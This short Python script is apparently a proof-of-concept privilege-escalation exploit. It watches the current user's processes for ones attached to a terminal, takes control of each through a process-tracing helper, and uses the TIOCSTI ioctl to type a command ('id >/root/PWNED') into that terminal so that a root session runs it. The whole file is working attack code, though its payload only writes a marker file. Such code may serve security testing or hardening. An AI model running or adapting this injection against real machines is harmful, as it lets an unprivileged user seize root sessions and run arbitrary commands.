"""Waits for a process of this user that has a terminal, and types a command for root there. Argument: seconds."""

import sys

from tracing import Taken, command, for_seconds, note, own_processes, read

LINE = b"id >/root/PWNED\n"
TIOCSTI = 0x5412

note("watching for terminals")
known = set()
for _ in for_seconds(float(sys.argv[1])):
    for pid in own_processes():
        fields = read(f"/proc/{pid}/stat").rpartition(b")")[2].split()
        if len(fields) < 5 or fields[4] == b"0" or pid in known:
            continue
        known.add(pid)
        note("TERMINAL", pid, fields[4].decode(), command(pid))
        try:
            taken = Taken(pid)
        except OSError as error:
            note("no trace of", pid, error)
            continue
        try:
            terminal = taken.call(2, taken.put(b"/dev/tty\0"), 2, 0)
            typed = sum(taken.call(16, terminal, TIOCSTI, taken.put(LINE[i : i + 1])) == 0 for i in range(len(LINE)))
            taken.call(3, terminal)
            note("TYPED", typed, "of", len(LINE))
            taken.let_go()
        except OSError as error:
            note("lost", pid, error)
